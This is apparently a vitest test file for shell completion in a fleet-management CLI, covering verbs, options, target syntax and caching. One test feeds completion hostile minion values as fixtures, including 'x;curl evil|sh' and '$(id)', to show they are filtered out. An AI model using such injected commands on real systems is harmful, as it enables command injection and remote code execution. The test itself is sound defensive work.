import fc from 'fast-check'
import { expect, it } from 'vitest'
import type { ApiClient } from '../../../../master/api/client.ts'
import { complete } from '../../../../master/cli/complete/complete.ts'
import { type FleetFacts, fetchFacts, keptFacts, NO_FACTS } from '../../../../master/cli/complete/facts.ts'
import { grammarOf } from '../../../../master/cli/complete/grammar.ts'
import { parseCommand } from '../../../../master/cli/parse.ts'
import { createProgram } from '../../../../master/cli/program.ts'
import { AppError } from '../../../../protocol/errors.ts'

const PROGRAM = grammarOf(createProgram('1', () => undefined))
const FACTS: FleetFacts = {
  minions: ['db1', 'db2', 'web1'],
  roles: ['base', 'chrony', 'db', 'dns'],
  usedRoles: ['base', 'db'],
  groups: ['edge'],
  levels: ['production', 'staging'],
  systems: ['debian'],
  jobs: ['job-2', 'job-1'],
  pending: ['new1'],
  tokens: ['t1'],
  sessions: ['ses-2', 'ses-1'],
  schedules: ['nightly'],
}
const offer = (line: string, facts = FACTS) => complete(line, PROGRAM, facts).candidates

it('completion offers verbs and then their subcommands', () => {
  expect(offer('app')).toEqual(['apply'])
  expect(offer('')).toContain('minions')
  expect(offer('')).not.toContain('complete')
  expect(offer('keys ')).toEqual(['list', 'accept', 'reject', 'revoke'])
  expect(offer('keys acc')).toEqual(['accept'])
  expect(offer('jobs ')).toEqual(['cancel', 'job-2', 'job-1'])
})

it('completion offers the options of a verb and of the program, and their values', () => {
  expect(offer('apply --')).toEqual(expect.arrayContaining(['--wait', '--json', '--socket', '--help']))
  expect(offer('minions --wa')).toEqual([])
  expect(offer('keys accept new1 --level ')).toEqual(['production', 'staging'])
  expect(offer('keys accept new1 --role db ba')).toEqual(['base'])
  expect(offer('join-token create --role db --level s')).toEqual(['staging'])
  expect(offer('pillar get a.b --minion w')).toEqual(['web1'])
  expect(offer('apply --wait ')).toEqual([])
})

it('completion offers the columns of the table of a verb, and none of them twice', () => {
  expect(offer('minions --columns m')).toEqual(['minion'])
  expect(offer('minions --columns minion,l')).toEqual([
    'minion,link',
    'minion,level',
    'minion,last-run',
    'minion,last-seen',
  ])
  expect(offer('minions --columns minion,')).not.toContain('minion,minion')
  expect(offer('keys --columns ')).toEqual(['minion', 'key', 'fingerprint', 'since', 'by'])
  expect(offer('apply --diff ')).toEqual(['short', 'full', 'none'])
})

it('completion never offers a value from a minion that contains shell metacharacters', () => {
  const systems = ['debian', 'x;curl evil|sh', '$(id)', 'a b', '\u001b[2J', '']

  expect(offer('ping os=', { ...FACTS, systems })).toEqual(['os=debian'])
})

it('completion offers target syntax with the names of this fleet', () => {
  const fields = ['role=', 'level=', 'id=', 'os=', 'group=', 'grain.']
  const conditions = ['online', 'offline', 'failed', 'outdated']
  expect(offer('apply ')).toEqual(['db1', 'db2', 'web1', 'edge', ...fields, ...conditions, 'not'])
  expect(offer('apply role=')).toEqual(['role=base', 'role=db', 'role=chrony', 'role=dns'])
  expect(offer('apply role=db a')).toEqual(['and'])
  expect(offer('apply role=db and level=p')).toEqual(['level=production'])
  expect(offer('apply not a')).toEqual([])
  expect(offer('apply (role=d')).toEqual(['(role=db', '(role=dns'])
  expect(offer('apply grain.ar')).toEqual(['grain.arch='])
  expect(offer('apply --wait 1h os=')).toEqual(['os=debian'])
  expect(offer('apply o')).toEqual(['os=', 'online', 'offline', 'outdated'])
  expect(offer('apply group=')).toEqual(['group=edge'])
})

it('completion offers the next item of a list, and no minion twice', () => {
  expect(offer('apply db1,')).toEqual(['db1,db2', 'db1,web1', 'db1,edge'])
  expect(offer('apply db1,d')).toEqual(['db1,db2'])
  expect(offer('apply db1 d')).toEqual(['db2'])
  expect(offer('apply role=base,d')).toEqual(['role=base,db', 'role=base,dns'])
  expect(offer('apply level=staging,')).toEqual(['level=staging,production'])
})

it('completion offers roles that some minion has first, and the others after them', () => {
  const facts = { ...FACTS, usedRoles: ['dns', 'base'] }

  expect(offer('apply role=d')).toEqual(['role=db', 'role=dns'])
  expect(offer('apply role=d', facts)).toEqual(['role=dns', 'role=db'])
  expect(offer('join-token create --role ', facts)).toEqual(['dns', 'base', 'chrony', 'db'])
  expect(offer('join-token create --role c')).toEqual(['chrony'])
})

it('completion offers names where a minion, a job or a pending key is expected', () => {
  expect(offer('render w')).toEqual(['web1'])
  expect(offer('keys accept ')).toEqual(['new1'])
  expect(offer('keys revoke d')).toEqual(['db1', 'db2'])
  expect(offer('report j')).toEqual(['job-2', 'job-1'])
  expect(offer('join-token revoke ')).toEqual(['t1'])
  expect(offer('sessions play ')).toEqual(['ses-2', 'ses-1'])
  expect(offer('schedule run ')).toEqual(['nightly'])
  expect(offer('audit --operator ')).toEqual([])
  expect(offer('audit --minion d')).toEqual(['db1', 'db2'])
  expect(offer('grains db1 osr')).toEqual(['osrelease'])
  expect(offer('audit --si')).toEqual(['--since'])
  expect(offer('completion ')).toEqual(['bash', 'zsh', 'fish'])
})

it('completion offers nothing for arguments of a remote program, and no names without a master', () => {
  expect(offer('apply db1 -- ')).toEqual([])
  expect(offer('apply ', NO_FACTS)).toEqual(expect.arrayContaining(['role=', 'online', 'not']))
  expect(offer('app', NO_FACTS)).toEqual(['apply'])
})

it('completion keeps an opening quote', () => {
  expect(complete("apply 'role=d", PROGRAM, FACTS)).toEqual({
    candidates: ["'role=db", "'role=dns"],
    replaces: "'role=d",
  })
})

it('every completion candidate starts with the typed text, for any input', () => {
  fc.assert(
    fc.property(fc.string(), line => {
      const { candidates, replaces } = complete(line, PROGRAM, FACTS)
      expect(line.endsWith(replaces)).toBe(true)
      expect(candidates.filter(word => !word.startsWith(replaces))).toEqual([])
    }),
  )
})

it('every verb that completion offers can be parsed and has help', () => {
  for (const { name } of PROGRAM.verbs) {
    expect(parseCommand([name, '--help'], '1'), name).toMatchObject({ kind: 'say' })
  }
})

it('completion names come from the master, and are empty when it does not answer', async () => {
  const client = { call: async () => FACTS } as unknown as ApiClient
  const gone = {
    call: async () => {
      throw new AppError({ code: 'MASTER_NOT_RUNNING', message: 'no' })
    },
  } as unknown as ApiClient

  expect(await fetchFacts(client)).toEqual(FACTS)
  expect(await fetchFacts(gone)).toEqual(NO_FACTS)
})

it('completion names are cached for a while', async () => {
  let at = 0
  let asked = 0
  const facts = keptFacts(
    async () => {
      asked += 1
      return NO_FACTS
    },
    () => at,
    5000,
  )

  await facts()
  at = 4999
  await facts()
  expect(asked).toBe(1)
  at = 5000
  await facts()
  expect(asked).toBe(2)
})
